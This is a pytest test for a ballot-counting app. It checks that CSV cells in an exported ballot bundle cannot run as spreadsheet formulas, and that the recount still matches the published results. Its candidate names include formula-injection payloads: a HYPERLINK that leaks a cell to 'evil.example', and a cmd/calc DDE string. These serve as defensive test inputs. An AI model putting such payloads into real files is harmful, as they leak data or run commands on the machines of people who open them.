"""No cell of a CSV file in a ballot's bundle can run as a spreadsheet formula, and the recount
still reproduces every figure of such a bundle."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from rankandfile.ballots.models import BallotBundle
from rankandfile.ballots.services import QuestionInput, ballot_cast, ballot_close, ballot_open
from rankandfile.counting.recount import main as recount_main
from rankandfile.counting.recount import recount_bundle
from tests.ballots.ballot_helpers import ballot_make, receipt_hash, voters_make
from tests.personas import MakeGroup

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 branch",
    "-minus option",
    "'already quoted",
    "Weight",
]


@pytest.mark.django_db
def test_bundle_csv_cells_are_escaped_and_the_bundle_still_recounts(
    make_group: MakeGroup, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    group = make_group()
    organiser = group.memberships.get().member
    voters = [organiser, *voters_make(group, 3)]
    ballot = ballot_open(
        ballot=ballot_make(
            organiser=organiser,
            group=group,
            questions=[
                QuestionInput(text="=1+1", method="yesno"),
                QuestionInput(text="Banner", method="approval", choices=NAMES, seats=2),
            ],
        )
    )
    for n, voter in enumerate(voters):
        ballot_cast(
            ballot=ballot,
            member=voter,
            receipt_hash=receipt_hash(),
            answers={"1": "yes", "2": [1 + n, 6]},
        )
    ballot_close(ballot=ballot, actor=None, now=ballot.closes_at)
    data = bytes(BallotBundle.objects.get(ballot=ballot).data)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        csv_files = [n for n in archive.namelist() if n.endswith(".csv")]
        assert csv_files == ["questions/1.csv", "questions/2.csv"]
        for name in csv_files:
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (name, cell)
                    assert cell.lower() != "weight"

    problems, _report = recount_bundle(data)
    assert problems == []
    bundle = tmp_path / "bundle.zip"
    bundle.write_bytes(data)
    assert recount_main([str(bundle)]) == 0
    assert "OK: the manifest matches" in capsys.readouterr().out
    # The published results name the candidates as they were written, not escaped.
    result = ballot.questions.get(position=2).result
    assert result is not None and set(result["stages"][0]["totals"]) == set(NAMES)
